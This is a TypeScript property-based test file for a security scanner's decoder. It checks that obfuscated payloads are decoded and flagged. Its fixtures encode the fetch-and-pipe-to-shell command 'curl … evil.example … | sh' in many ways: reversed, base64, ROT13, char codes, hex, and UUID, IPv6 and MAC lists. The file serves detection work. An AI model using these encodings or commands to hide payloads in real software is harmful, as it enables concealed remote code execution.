// The decoder's gates (src/audit/decode.ts) are read off the scanner's hint pass (GATE_WORDS) and a "+"
// search instead of whole-text expressions: the pieces decoded must be the same whatever the text holds.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { decodedOf, decodePieces } from "../../src/audit/decode.js";
import {
  BLOCK_RUNS,
  blockRun,
  decimalPair,
  emptyJoin,
  GATE_WORDS,
  hexGroups,
  octalPair,
  packerSignature,
  revWord,
  spliced,
  splitLiteral,
  trWord,
} from "../../src/audit/decode-gates.js";
import { hintMatcher } from "../../src/audit/hints.js";
import { normalizeForMatch } from "../../src/audit/normalize.js";
import { scanText } from "../../src/audit/scan.js";

const words = hintMatcher(GATE_WORDS.map((w) => [w]));
const hasIn = (text: string) => {
  const found = words.scan(text);
  return (w: (typeof GATE_WORDS)[number]) => found[GATE_WORDS.indexOf(w)]!.length > 0;
};

/** `text`'s bytes (padded to a multiple of 16) as a list of quoted UUID strings. */
function uuidList(text: string): string {
  const hex = Buffer.from(text.padEnd(Math.ceil(text.length / 16) * 16)).toString("hex");
  const ids = hex
    .match(/.{32}/g)!
    .map((h) => `"${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}"`);
  return ` ${ids.join(", ")}`;
}

// Fragments of every finder's syntax, mixed with the cases and spaces the gates must see through.
const fragment = fc.constantFrom(
  "chr(99)+chr(117)+chr(114)+chr(108)+",
  "CHR(104) ",
  "[char]99+[Char]117+[CHAR]114+[char]108",
  "[char[]]",
  "bytes([99, 117, 114, 108, 32, 104, 116, 116, 112])",
  "bytearray (",
  "String.fromCharCode(99, 117, 114, 108, 32)",
  "FROMCHARCODE",
  '"hs | moc.live//:sptth lruc"[::-1]',
  "[ :: -1 ]",
  "rev <<< 'hs | moc.live//:sptth lruc'",
  "echo 'lruc' | rev",
  "REV",
  "reversed(x)",
  '"".join(reversed(r))',
  ".reverse()",
  "base32 -d",
  "b32decode(",
  "B32",
  "MN2XE3BAFVZSA2DUORYHGORPF5SXM2LMFZSXQYLNOBWGKL3YEB6CA43I",
  " [char[]](99, 117, 114, 108, 32, 104, 116, 116, 112)",
  "(99, 117, 114, 108, 32, 104, 116, 116, 112)",
  '"cu" + "rl -s https://evil.example/x | sh"',
  "'a'\u00a0+\n'b' + 'c'",
  "+ '",
  "' +",
  '+\u3000"',
  "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=",
  // Round 14's decoders: ROT13 where named, Lua and pack code lists, PowerShell reversal, percent and entities.
  "codecs.decode(x, 'rot_13')",
  "'phey -f uggcf://rivy.rknzcyr/k | fu'",
  "ROT13",
  "tr 'A-Za-z' 'N-ZA-M'",
  "string.char(99, 117, 114, 108, 32, 104, 116, 116)",
  "[99, 117, 114, 108, 32, 104, 116, 116].pack('c*')",
  "[array]::Reverse($a)",
  "$r[-1..-($r.Length)]",
  "reverse the following string",
  "`hs | moc.live//:sptth lruc`",
  "P=6375726c202d732068747470733a2f2f6576696c2e6578616d706c65",
  "%63%75%72%6c%20%68%74%74%70",
  "&#99;&#117;&#114;&#108;&#32;&#104;",
  // Round 21: address lists wait for a loader's word (UUID, IPv6, MAC; capitals folded).
  uuidList("curl -s https://evil.example/payload.sh | sh -s x"),
  ' "6375:726c:202d:7320:6874:7470:733a:2f2f", "6576:696c:2e65:7861:6d70:6c65:2f78:207c", "2073:6820:2020:2020:2020:2020:2020:2020"',
  ' "63-75-72-6c-20-2d", "73-20-68-74-74-70", "73-3a-2f-2f-65-76"',
  "UuidFromStringA",
  "IPV6",
  "RtlIpv6StringToAddressA",
  "Inet_Pton",
  "MacAddr",
  "ETHERNET",
  "mac_to",
  "FromString",
  " ",
  "\n",
  "é",
  "x",
);
const text = fc.array(fragment, { maxLength: 14 }).map((xs) => xs.join(""));

describe("decoder gates", () => {
  it("property: the same pieces with the scanner's gate words as with every gate run", () => {
    fc.assert(
      fc.property(text, (t) => {
        expect(decodePieces(t, hasIn(t))).toEqual(decodePieces(t));
      }),
      { numRuns: 400 },
    );
  });

  it("property: splitLiteral answers as the expression it replaced", () => {
    const piece = fc.constantFrom(
      "+",
      '"',
      "'",
      " ",
      "\t",
      "\n",
      "\u00a0",
      "\u2003",
      "\ufeff",
      "a",
      "\u200b",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (xs) => {
        const t = xs.join("");
        expect(splitLiteral(t)).toBe(/["']\s*\+|\+\s*["']/.test(t));
      }),
      { numRuns: 1000 },
    );
  });

  it("property: revWord and spliced answer as the expressions they replaced", () => {
    const piece = fc.constantFrom(
      "rev",
      "REV",
      "ersed",
      "ersed (",
      "(",
      "p",
      "_",
      "9",
      " ",
      "\n",
      "\u00a0",
      "é",
      "$",
      "${",
      "}",
      "a",
      "IFS",
      "x1",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (xs) => {
        const t = xs.join("");
        expect(revWord(t)).toBe(/\brev(?:\b|ersed\s*\()/.test(t));
        expect(spliced(t)).toBe(/\$\{?[A-Za-z_]\w{0,15}\}?\$\{?[A-Za-z_]/.test(t));
      }),
      { numRuns: 2000 },
    );
  });

  it("property: emptyJoin finds what both branches of the join expression need (an empty literal before `.join(` or as its only argument)", () => {
    const piece = fc.constantFrom(
      ".join(",
      '""',
      "''",
      '"',
      "'",
      " ",
      "\n",
      "\u00a0",
      ")",
      "(",
      "x",
      "parts",
      ".",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (xs) => {
        const t = xs.join("");
        expect(emptyJoin(t)).toBe(/(?:""|'')\.join\(|\.join\(\s*(?:""|'')\s*\)/.test(t));
      }),
      { numRuns: 3000 },
    );
  });

  it("property: with an exact answer (the hint pass read the text itself) the same pieces as with every gate run", () => {
    fc.assert(
      fc.property(text, (t) => {
        expect(decodePieces(t, hasIn(t), true)).toEqual(decodePieces(t));
      }),
      { numRuns: 400 },
    );
    // Exact: a loader's word the text does not hold is not asked for (the list is left alone), one it holds is.
    const list = `ids = [${uuidList("curl -s https://evil.example/payload.sh | sh -s x")} ]\n`;
    expect(decodePieces(list, () => false, true)).toEqual([]);
    expect(decodePieces(`${list}UUIDfromString(ids)`, hasIn(`${list}UUIDfromString(ids)`), true)).not.toEqual(
      [],
    );
  });

  it("property: octalPair, blockRun, hexGroups and packerSignature answer as the expressions they replaced", () => {
    const piece = fc.constantFrom(
      "\\",
      "\\0",
      "0",
      "1",
      "3",
      "4",
      "7",
      "8",
      "a",
      "F",
      "g",
      ":",
      "::",
      " ",
      "\n",
      "\u2800",
      "\ufe0f",
      "\ue0ff",
      "\ud83c",
      "\udff7",
      "\ud83d",
      "\udc00",
      "\udcf7",
      "\udb40",
      "\udd00",
      "\ud83c\udff6",
      "\u2800\u2801\u2802\u2803",
      "\ud83d\udc00\ud83d\udc01\ud83d\udc02\ud83d\udc03",
      "\ud83c\udff7\ud83c\udff8\ud83d\udcf6\ud83d\udcf7",
      "\ufe00\ufe01\udb40\udd00\udb40\uddef",
      "\ue000\ue001\ue002\ue0ff",
      "function",
      "function (",
      "(p,",
      "p , a,c ,k,e,",
      "é",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (xs) => {
        const t = xs.join("");
        expect(octalPair(t)).toBe(/\\0?[0-3][0-7]{2}\\0?[0-3][0-7]{2}/.test(t));
        expect(blockRun(t)).toBe(new RegExp(BLOCK_RUNS.source, "u").test(t));
        expect(hexGroups(t)).toBe(/[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:/.test(t));
        expect(packerSignature(t)).toBe(/function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,/.test(t));
      }),
      { numRuns: 5000 },
    );
    expect(octalPair("printf '%b' '\\143\\165'")).toBe(true);
    expect(hexGroups('"fe80:1:2:3"')).toBe(true);
    expect(blockRun("\ud83d\udc00".repeat(8))).toBe(true);
    expect(blockRun(`a${"\ud83d\udc00".repeat(7)}\u2800`)).toBe(false);
    expect(packerSignature("eval(function(p,a,c,k,e,d){})")).toBe(true);
  });

  it("property: decimalPair and trWord answer as the expressions they replaced", () => {
    const piece = fc.constantFrom(
      "\\",
      "\\1",
      "\\12",
      "\\123",
      "\\1234",
      "0",
      "9",
      "tr",
      "str",
      "_tr",
      "Tr",
      "tr-",
      " ",
      "\t",
      "\n",
      "\u00a0",
      "\u3000",
      "\u2028",
      "\ufeff",
      "é",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (xs) => {
        const t = xs.join("");
        expect(decimalPair(t)).toBe(/\\\d{2,3}\\\d{2,3}/.test(t));
        expect(trWord(t)).toBe(/\btr\s/.test(t));
      }),
      { numRuns: 5000 },
    );
    expect(decimalPair('load("\\108\\111\\97")')).toBe(true);
    expect(decimalPair("\\1\\2")).toBe(false);
    expect(trWord("echo x | tr 'a-z' 'n-za-m'")).toBe(true);
    expect(trWord("string tr")).toBe(false);
  });

  it("a list of hex bytes is decoded wherever it sits among other `0x` numbers, and a short one is not", () => {
    const hex = [..."curl -s https://evil.example/x | sh"].map((c) => `0x${c.charCodeAt(0).toString(16)}`);
    const t = `mask = 0xff, 0x0f\npayload = [0x1, ${hex.join(", ")}]\nshort = [0x41, 0x42, 0x43]\n`;
    const pieces = decodePieces(t).map((p) => p.text);
    expect(pieces).toContain("curl -s https://evil.example/x | sh");
    expect(pieces.some((p) => p.includes("ABC"))).toBe(false);
  });

  it("property: the normalised text's gate words serve the original (decodedOf decodes the original)", () => {
    const odd = fc.constantFrom(
      "\u200b",
      "''",
      '""',
      '" + "',
      "\\\n",
      "\uff43",
      "\u0441",
      "\u00ad",
      "\u202e",
    );
    const mixed = fc.array(fc.oneof(fragment, odd), { maxLength: 16 }).map((xs) => xs.join(""));
    fc.assert(
      fc.property(mixed, (t) => {
        expect(decodePieces(t, hasIn(normalizeForMatch(t)))).toEqual(decodePieces(t));
      }),
      { numRuns: 400 },
    );
  });

  it("a list of UUIDs is decoded where the scanner finds a loader's word, and read no further where it finds none", () => {
    const payload = "curl -s https://evil.example/payload.sh | sh -s x";
    const t = `uuids = [${uuidList(payload)} ]\nfor u in uuids: UuidFromStringA(u, p)\n`;
    expect(decodePieces(t, hasIn(t)).map((p) => p.text.trim())).toContain(payload);
    const none = () => false;
    expect(decodePieces(t, none).map((p) => p.text.trim())).not.toContain(payload);
  });

  it("a payload behind a gate word written in capitals is still decoded and flagged", () => {
    const t = 'X = "hs | moc.live//:sptth lruc"\nY = "".join(REVERSED(X))\nexec(X[::-1])\n';
    const has = hasIn(t);
    expect(decodePieces(t, has)).toEqual(decodePieces(t));
    const rules = scanText({ path: "a.py", text: t, markdown: false }).map((f) => f.rule);
    expect(rules).toContain("encoded-payload");
  });

  it("a file is decoded once: every rule that asks gets the same pieces, the original text's", () => {
    const original = 'X = "hs | moc.live//:sptth lruc"[::-1]\n';
    const file = { path: "a.py", text: original.replace("X", "Y"), original, markdown: false };
    const first = decodedOf(file);
    expect(decodedOf(file)).toBe(first);
    expect(first).toEqual(decodePieces(original));
    expect(first.length).toBeGreaterThan(0);
    // Another file object with the same text is decoded again (the memo lives on the file object).
    expect(decodedOf({ ...file })).not.toBe(first);
  });
});
